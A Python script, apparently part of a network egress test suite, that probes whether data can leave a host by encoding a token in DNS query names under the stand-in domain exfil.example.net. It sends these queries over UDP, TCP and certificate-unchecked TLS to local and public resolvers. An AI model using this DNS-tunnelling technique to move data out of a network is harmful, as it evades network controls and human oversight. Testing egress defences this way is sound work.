"""Questions to every server in reach, over UDP, TCP and TLS (port 853), of every type that carries data, with the message in
the name. The outcome is the answer: an address, or a response code."""

import ipaddress
import socket
import ssl
import struct

from attempts import GATEWAY4, RESOLVER4, RESOLVER6, V4, V6, attempt

TYPES = {"a": 1, "ns": 2, "cname": 5, "null": 10, "mx": 15, "txt": 16, "aaaa": 28, "srv": 33, "https": 65, "any": 255}
SERVERS = (RESOLVER4, RESOLVER6, V4, V6, GATEWAY4, "8.8.8.8", "127.0.0.53")


def question(token, qtype, labels=1):
    """A question for token.….exfil.example.net."""
    name = b"".join(bytes([len(label)]) + label for label in [token, *([b"x" * 60] * (labels - 1)), b"exfil", b"example",
                                                                b"net"])
    return struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0) + name + b"\0" + struct.pack("!HH", qtype, 1)


def verdict(asked, answer):
    """The first address of an answer, else its response code."""
    code, answers = answer[3] & 15, struct.unpack_from("!H", answer, 6)[0]
    if code or not answers:
        return f"code {code}, {answers} answers"
    record = answer[len(asked):]
    length = struct.unpack_from("!H", record, 10)[0]
    return f"address {ipaddress.ip_address(record[12:12 + length])}"


def over_udp(server, qtype, labels=1):
    """One datagram."""

    def ask(token, port):
        asked = question(token, qtype, labels)
        with socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM) as sender:
            sender.settimeout(3)
            sender.sendto(asked, (server, port))
            return verdict(asked, sender.recv(4096))

    return ask


def over_stream(server, qtype, tls=None):
    """One connection, with TLS inside if a context is given."""

    def ask(token, port):
        asked = question(token, qtype)
        with socket.create_connection((server, port), 3) as stream:
            channel = tls.wrap_socket(stream, server_hostname="dns.example.net") if tls else stream
            channel.sendall(struct.pack("!H", len(asked)) + asked)
            answer = channel.recv(4096)
            if tls:
                return f"answered {answer[:12]!r}" if answer else "closed"
            return verdict(asked, answer[2:]) if answer else "closed"

    return ask


def main():
    """Every question."""
    careless = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    careless.check_hostname, careless.verify_mode = False, ssl.CERT_NONE
    for server in SERVERS:
        attempt(f"udp a {server}", over_udp(server, TYPES["a"]), 53)
        attempt(f"tcp a {server}", over_stream(server, TYPES["a"]), 53)
    for name, qtype in TYPES.items():
        attempt(f"udp {name}", over_udp(RESOLVER4, qtype), 53)
        attempt(f"tcp {name}", over_stream(RESOLVER4, qtype), 53)
    attempt("long name", over_udp(RESOLVER4, TYPES["txt"], 3), 53)
    for server in (RESOLVER4, RESOLVER6):
        attempt(f"tls {server}", over_stream(server, TYPES["a"], careless), 853)


if __name__ == "__main__":
    main()
